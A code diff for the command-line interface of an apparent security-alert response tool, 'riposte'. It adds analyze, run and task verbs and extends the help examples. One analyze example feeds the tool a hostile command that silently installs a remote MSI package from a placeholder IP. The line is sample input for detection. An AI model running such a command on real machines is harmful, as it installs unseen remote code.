@@ -4,11 +4,14 @@
  */
 import { Command, Option } from 'commander';
 import { EXIT_CODES, type ExitCode } from './exit.ts';
-import { DEFAULT_PORT, type GlobalOptions, type UpOptions, type RunHereOptions, type TestOptions } from './options.ts';
+import { DEFAULT_PORT, type GlobalOptions, type UpOptions, type TestOptions } from './options.ts';
 import { createOutput, type Output } from './output.ts';
 import type { GraphOptions } from './verbs/graph.ts';
 import { addInstance } from './verbs/instance.ts';
+import { addAnalyze } from './verbs/analyze.ts';
 import { addPlaybook } from './verbs/playbook.ts';
+import { addRun } from './verbs/run.ts';
+import { addTask } from './verbs/task.ts';
 
 /** Examples of a command, in the help and in the reference page. */
 export const EXAMPLES: ReadonlyMap<string, readonly string[]> = new Map([
@@ -42,6 +45,22 @@ export const EXAMPLES: ReadonlyMap<string, readonly string[]> = new Map([
     'riposte item done',
     ['riposte item done 3f2a --note "blocked by hand, change 4711"', 'riposte item done 3f2a --offer retry'],
   ],
+  ['riposte run pause', ['riposte run pause 3f2a --as mira', 'riposte run resume 3f2a']],
+  ['riposte run again', ['riposte run again 3f2a']],
+  ['riposte run retry', ['riposte run retry 3f2a', 'riposte run retry 3f2a --task 12']],
+  [
+    'riposte task complete',
+    ['riposte task complete 3f2a 14 --note "called the user"', 'riposte task complete 3f2a 20 --choose "Malicious"'],
+  ],
+  ['riposte playbook show', ['riposte playbook show Triage', 'riposte playbook list --json']],
+  [
+    'riposte analyze',
+    [
+      'riposte analyze "msiexec /i http://203.0.113.7:8080/a.msi /q"',
+      'riposte analyze --jsonl lines.jsonl',
+      'cat lines.jsonl | riposte analyze --jsonl - > scores.jsonl',
+    ],
+  ],
   ['riposte action undo', ['riposte action undo 3f2a']],
   [
     'riposte instance add',
@@ -59,13 +78,18 @@ const collect = (value: string, before: readonly string[]): readonly string[] =>
 
 /** `done` hears the exit code of the verb that was called. */
 export function createProgram(done: (code: ExitCode) => void): Command {
-  const program = new Command('riposte')
+  const program: Command = new Command('riposte')
     .description('Answers security alerts: runs playbooks, asks before it contains, proves what it did.')
     .option('--json', 'one JSON document on standard output instead of lines for people')
     .option('--data <dir>', 'data directory (default: ./data of the project; of the lab ./data/lab)')
     .option('--url <url>', 'address of the running Riposte (default: what the data directory says)')
     .option('--token-file <file>', 'file with the token (default: "token" in the data directory)')
-    .configureHelp({ showGlobalOptions: true, helpWidth: 100 })
+    .configureHelp({
+      showGlobalOptions: true,
+      helpWidth: 100,
+      // Those of `run` itself are not those of the verbs below it.
+      visibleGlobalOptions: (command) => (command === program ? [] : [...program.options]),
+    })
     // What is wrong with a command line is said by main.ts, like every other error.
     .configureOutput({ outputError: () => undefined })
     .exitOverride();
@@ -83,10 +107,12 @@ export function createProgram(done: (code: ExitCode) => void): Command {
   addTest(program, does);
   addPlaybook(program, does);
   addGraph(program, does);
+  addAnalyze(program, does);
   addContent(program, does);
   addAlert(program, does);
   addApproval(program, does);
   addItem(program, does);
+  addTask(program, does);
   addAction(program, does);
   addInstance(program, does);
   does(
@@ -117,80 +143,6 @@ function addUp(program: Command, does: Does): void {
       .option('--config <file>', 'configuration (default: riposte.json in the data directory)')
       .option('--dry-run', 'change nothing at any vendor: runs end in a plan'),
     () => async (options, output) => (await import('./verbs/up.ts')).up(options, output),
-  );
-}
-
-function addRun(program: Command, does: Does): void {
-  const run = program
-    .command('run')
-    .description('Run one playbook on one alert here and now, and watch it; or look at the runs of a running Riposte')
-    .argument('<playbook>', 'name of an installed playbook, or a YAML file')
-    .option(
-      '--alert <file>',
-      'the alert: its fields as JSON, {"instance", "fields"}, or a scenario; - is standard input',
-    )
-    .option(
-      '--lab <file>',
-      'simulated vendors: a tenant as in the scenario format, or a whole scenario; time is not waited for',
-    )
-    .option('--config <file>', 'real vendors, as in the configuration file')
-    .option('--content <dir>', 'folder of installed playbooks (default: content)')
-    .addOption(
-      new Option('--answer <id=value>', 'an answer given beforehand; may be repeated')
-        .argParser(collect)
-        .default([], 'none'),
-    )
-    .option('--dry-run', 'change nothing at any vendor: the run ends in a plan')
-    .option('--no-input', 'never ask on this terminal');
-  does<RunHereOptions>(
-    run,
-    ([playbook = '']) =>
-      async (options, output) =>
-        (await import('./verbs/run-here.ts')).runHere(playbook, options, output),
-  );
-  does<{ status?: string; limit: string }>(
-    run
-      .command('list')
-      .description('Runs, newest first')
-      .addOption(
-        new Option('--status <status>', 'only these').choices([
-          'running',
-          'waiting',
-          'failed',
-          'completed',
-          'cancelled',
-        ]),
-      )
-      .option('--limit <n>', 'how many', '20'),
-    () => async (options, output) => (await import('./verbs/runs.ts')).runList(options, output),
-  );
-  does(
-    run
-      .command('show')
-      .description('One run: how it stands, its story, what waits')
-      .argument('<run>', 'id, or its beginning'),
-    ([id = '']) =>
-      async (options, output) =>
-        (await import('./verbs/runs.ts')).runShow(id, options, output),
-  );
-  does(
-    run
-      .command('tail')
-      .description('Follow a run until it ends (Ctrl-C leaves it alone)')
-      .argument('<run>', 'id, or its beginning'),
-    ([id = '']) =>
-      async (options, output) =>
-        (await import('./verbs/runs.ts')).runTail(id, options, output),
-  );
-  does<{ as?: string }>(
-    run
-      .command('cancel')
-      .description('Cancel a run: nothing new starts, what is under way settles')
-      .argument('<run>', 'id, or its beginning')
-      .option('--as <user>', 'who acts'),
-    ([id = '']) =>
-      async (options, output) =>
-        (await import('./verbs/runs.ts')).runCancel(id, options, output),
   );
 }
 
